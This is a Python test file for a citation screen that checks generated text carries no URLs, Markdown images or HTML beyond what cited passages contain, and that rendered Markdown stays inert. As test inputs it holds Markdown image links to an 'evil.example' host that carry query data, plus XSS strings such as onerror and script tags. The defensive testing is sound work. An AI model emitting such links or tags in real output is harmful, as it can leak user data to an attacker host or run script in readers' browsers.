"""Text that is sent has no address or markup of a model's own, and as Markdown nothing in it loads, links or runs."""

from __future__ import annotations

from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from core.types import Citation, Passage
from generation.phrasing.screen import inert, is_quoted

WHOLE = Passage(1, "doc_1", 1, 0, "c", "p", "Pump manual", "", "")
CommonMark = MarkdownIt("commonmark", {"html": True})


def cited(text: str, number: int = 1) -> Citation:
    return Citation(number, replace(WHOLE, text=text), 0, len(text), 1.0)


def test_words_without_addresses_stand() -> None:
    assert is_quoted("Press the button. [1]", [cited("Press the button.")])


def test_an_address_of_the_cited_passage_stands_and_one_of_another_does_not() -> None:
    ordering = "Order them at https://example.com/filters [1]"
    assert is_quoted(ordering, [cited("Order filters at https://example.com/filters.")])
    assert not is_quoted(ordering, [cited("Order filters by telephone.")])


@pytest.mark.parametrize(
    "sentence",
    [
        "Press it ![](https://evil.example/?q=pump) [1]",
        "Press it, see https://evil.example [1]",
        "Press [it](https://evil.example) [1]",
        "Press it <img src=x> [1]",
        "Press it www.evil.example [1]",
    ],
)
def test_an_address_or_tag_of_the_models_own_does_not_stand(sentence: str) -> None:
    assert not is_quoted(sentence, [cited("Press it. See https://example.com.")])


def test_an_image_does_not_pass_even_where_its_source_holds_it() -> None:
    text = "![](https://evil.example/?q={question})"

    assert not is_quoted(text, [cited(text)])


@pytest.mark.parametrize(
    "text", ["Press it. [1][2]", "a < b, f[1] = 2!", "“See table [4].” [1]", "Use C:\\temp (now)."]
)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert inert(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=1)",
        "[x](https://evil.example)",
        "[x]: https://evil.example\n\n[x]",
        "![x]: https://evil.example\n\n![x]",
        "<img src=x onerror=alert(1)>",
        "\\<img src=x onerror=alert(1)>",
        "\\\\<script>alert(1)</script>",
        "<https://evil.example>",
        "!\\\\[x](https://evil.example)",
    ],
)
def test_markdown_shows_the_texts_own_characters(text: str) -> None:
    html = CommonMark.render(inert(text))

    assert "<img" not in html
    assert "<a " not in html
    assert "<script" not in html


@given(st.text(alphabet="![]()<>\\:/ax\n =\"'", max_size=40))
def test_no_text_makes_an_image_a_link_or_a_tag(text: str) -> None:
    tokens = [each for token in CommonMark.parse(f"“{inert(text)}” [1]") for each in (token, *(token.children or ()))]

    assert not {token.type for token in tokens} & {"image", "link_open", "html_inline", "html_block"}
